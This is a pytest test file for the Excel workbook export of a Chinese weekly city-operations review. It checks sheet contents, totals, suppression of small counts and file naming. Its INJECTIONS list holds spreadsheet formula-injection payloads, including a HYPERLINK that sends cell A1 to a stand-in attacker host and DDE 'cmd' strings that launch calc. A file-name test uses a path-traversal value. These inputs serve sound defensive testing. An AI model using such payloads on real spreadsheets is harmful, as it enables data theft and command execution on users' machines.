"""The workbook of a weekly review: read back it says what the page says, and nothing counts."""

from __future__ import annotations

import re

import pytest

from components.formats import number
from components.i18n import _, name, use
from components.report import file_name, workbook
from components.report.cells import clean, figure
from components.review_sentences import message_text
from components.review_words import aim_word, doubt_word
from components.spc_icons import assurance_word
from data.vocabulary import Names
from data.vocabulary.meeting import Frozen, Restated
from data.vocabulary.review_terms import Doubt
from tests.report_reading import BASE, edition, everything, no_minutes, parts_of, sheets_of
from tests.review_sample import sample_review

with use("zh"):
    SCORES = _("Scorecard")
"""Words that the page has too, and may change."""
SHEETS = ["说明", "总量", "本周要点", SCORES, "近26周", "地区矩阵", "公平比较", "责任单位",
          "逐日", "超期事项", "数据缺口", "承诺事项", "定稿后更正"]  # fmt: skip
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1", "http://evil.example",
]  # fmt: skip


def made(review=None, minutes=None, **more):
    return workbook(review or sample_review(), minutes or no_minutes(), edition(**more))


@pytest.fixture(scope="module")
def sheets():
    return sheets_of(made())


def table(sheet, first):
    """Return a sheet's rows as dicts, from the row whose first cell is `first`."""
    start = next(i for i, row in enumerate(sheet) if row and row[0] == first)
    return [dict(zip(sheet[start], row, strict=False)) for row in sheet[start + 1 :]]


def test_every_table_has_its_sheet_the_notes_first(sheets):
    assert list(sheets) == SHEETS


def test_the_notes_say_source_time_definition_suppression_and_mark(sheets):
    said = {row[0]: row[1] for row in sheets["说明"][3:]}
    assert said["数据截至"] == "2026-11-23 08:40:00"
    assert said["导出人"] == "王敏"
    assert said["内容标识"] == "sample"
    assert said["状态"].startswith("未定稿")
    assert "粤平安综治平台（最近收到 2026-11-23 08:25:00）" in said["数据源"]
    assert "不予显示" in said["小数隐藏"]
    assert "7天中6天可比" in said["农历同期"]
    assert "11月22日" in said["农历同期"]
    assert "模拟生成" in said["演示数据"]
    assert "约1.3个" in said["偶然信号预算"]


def test_the_totals_are_numbers_and_add_up(sheets):
    rows = {r["项目名称"]: r for r in table(sheets["总量"], "项目名称")}
    value = {k: r["本周"] for k, r in rows.items()}
    assert value["期初未办结"] + value["新增"] + value["重新开办"] - value["办结"] == 1436
    assert value["期末未办结"] == 1436
    assert value["到期事项按时办结率"] == pytest.approx(92.3)
    assert rows["新增"]["上周"] == 4033


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_message_is_the_sentence_of_the_page(lang):
    review = sample_review()
    found = everything(made(lang=lang))
    with use(lang):
        for message in review["messages"]:
            words = message_text(message, review["areas"])
            assert words.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in found


def test_every_scorecard_value_is_the_one_of_the_page(sheets):
    review = sample_review()
    rows = {r["指标编号"]: r for r in table(sheets[SCORES], "领域") if r["指标编号"]}
    assert len(rows) == len(review["rows"])
    for row in review["rows"]:
        code, places = row["measure"]["code"], row["measure"]["decimals"]
        shown = rows[code]["本周"]
        if row["now"]["value"] is None:
            assert shown == "无数据"
        else:
            assert number(shown, places) == number(row["now"]["value"], places)
        assert rows[code]["目标"] == aim_word(row["aim"], places)
        assert rows[code]["达标能力"] == assurance_word(row["assurance"])
        assert rows[code]["单位"] == name(row["measure"]["unit"])
        assert rows[code]["来源凭据"] == row["evidence"]


def test_a_change_that_cannot_be_concluded_is_a_word_and_no_number(sheets):
    rows = {r["指标编号"]: r for r in table(sheets[SCORES], "领域")}
    assert rows["HE-10"]["较去年同周变化"] == doubt_word(Doubt.BREAK)
    assert rows["EC-04"]["本周"] == "无数据"
    assert rows["EC-04"]["较上周变化"] == "无数据"


def test_numbers_are_rounded_as_they_are_shown():
    cell = figure(93.14999, 1)
    assert (cell.value, cell.text) == (93.1, "93.1")
    assert figure(-0.04, 1).value == 0.0
    assert figure(float("nan"), 1, instead="无数据").value is None
    assert figure(None).text == "—"


def test_there_is_no_formula_and_no_outside_link_but_evidence():
    parts = parts_of(made())
    for name_, part in parts.items():
        if "worksheets/sheet" in name_ and name_.endswith(".xml"):
            assert "<f>" not in part
            assert "<f " not in part
    targets = [t for p in parts.values() for t in re.findall(r'Target="(http[^"]*)"', p)]
    targets = [t for t in targets if not t.startswith("http://schemas.")]
    assert targets
    assert all(t.startswith(f"{BASE}/e/") for t in targets)
    assert f"{BASE}/e/PS-09.441600.26W47" in targets
    assert not [n for n in parts if "vba" in n.lower() or "externalLink" in n]


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_that_looks_like_a_formula_stays_text(text):
    review = sample_review()
    case = review["late"][0] | {"title": text}
    measure = review["rows"][0]["measure"] | {"definition": Names(zh=text, en=text)}
    row = review["rows"][0] | {"measure": measure}
    payload = made(review | {"late": [case], "rows": [row]})
    (found,) = [r for r in table(sheets_of(payload)["超期事项"], "级别") if r["案件"]]
    assert found["事项"] == clean(text)
    parts = parts_of(payload)
    assert not any("<f>" in p or "<f " in p for n, p in parts.items() if "worksheets" in n)
    assert "evil.example" not in "".join(p for n, p in parts.items() if n.endswith(".rels"))
    if clean(text)[0] in "=+-@":
        assert 'quotePrefix="1"' in parts["xl/styles.xml"]


def test_letters_that_no_file_takes_are_left_out():
    assert clean("水\x00位\x0b\ud800异\x1b[31m常\n二") == "水位异[31m常\n二"


def test_hidden_small_counts_are_nowhere():
    review = sample_review()
    secret = {"value": 987654.3, "num": 987655.0, "n": 987656.0, "low": 987657.1, "high": 987658.2}
    row = review["rows"][0]
    now = row["now"] | secret | {"doubt": Doubt.HIDDEN}
    compared = row["last"] | {"now": now, "change": 987659.0, "doubt": Doubt.HIDDEN}
    spark = row["spark"] | {"values": [*row["spark"]["values"][:-1], 987654.3]}
    hidden = row | {"now": now, "last": compared, "spark": spark, "doubts": [Doubt.HIDDEN]}
    cell = review["matrix"][0]["cells"][0]
    cell = cell | {"figure": cell["figure"] | secret | {"doubt": Doubt.HIDDEN}}
    line = review["matrix"][0] | {"cells": [cell]}
    point = review["fair"][0]["points"][0] | {
        "n": 987656.0, "value": 987654.3, "low": 987657.1, "doubt": Doubt.HIDDEN
    }  # fmt: skip
    fair = review["fair"][0] | {"points": [point]}
    frozen = Frozen(
        week="2026-W47", area="441600", frozen_at=review["as_of"], frozen_by="李", sha256="a" * 64, intact=True,
        restated=[Restated(code="PS-09", area="441622", was=987654.3, now=987655.0,
                           late_records=1, decimals=1, reason="hidden")],
    )  # fmt: skip
    whole = review | {"rows": [hidden], "matrix": [line], "fair": [fair]}
    payload = made(whole, no_minutes() | {"frozen": frozen})
    assert "98765" not in everything(payload)
    rows = [r for r in table(sheets_of(payload)[SCORES], "领域") if r["指标编号"]]
    assert rows[0]["本周"] == doubt_word(Doubt.HIDDEN)


def test_the_sheets_come_well_to_paper():
    parts = parts_of(made())
    page = parts["xl/worksheets/sheet4.xml"]
    assert 'paperSize="9"' in page
    assert 'orientation="landscape"' in page
    assert 'state="frozen"' in page
    assert 'fitToPage="1"' in page
    assert "演示数据" in page  # in the running head
    assert "_xlnm.Print_Titles" in parts["xl/workbook.xml"]


def test_an_empty_week_says_so_on_every_sheet():
    review = sample_review(
        rows=[], matrix=[], fair=[], departments=[], days=[], late=[], gaps=[], messages=[],
        below=[], bases={}, doubts=[Doubt.FUTURE], more_late=0,
    )  # fmt: skip
    found = sheets_of(made(review))
    for key in SHEETS[2:]:
        assert len(found[key][-1][0]) >= 2
    assert any("尚未开始" in str(row[1]) or row[1] for row in found["说明"] if row[0] == "注意")


def test_the_english_workbook_has_no_chinese_but_names_of_persons():
    parts = parts_of(made(lang="en", by="Wang Min"))
    found = "".join(p for n, p in parts.items() if "theme" not in n)
    kept = sample_review()
    written = "".join(case["title"] for case in kept["late"]) + "周敏王敏"
    chinese = set(re.findall(r"[\u4e00-\u9fff]", found))
    assert chinese <= set(written)


def test_the_file_is_named_after_city_and_week():
    real = sample_review(demo=False)
    assert file_name(real, edition(), "xlsx") == "河源市城市运行周报 2026年第47周.xlsx"
    assert file_name(sample_review(), edition(), "docx").endswith("2026年第47周 演示数据.docx")
    odd = edition(area=Names(zh='../城\r\n"/市', en="x"))
    assert not set('/\\"\r\n') & set(file_name(real, odd, "pdf"))
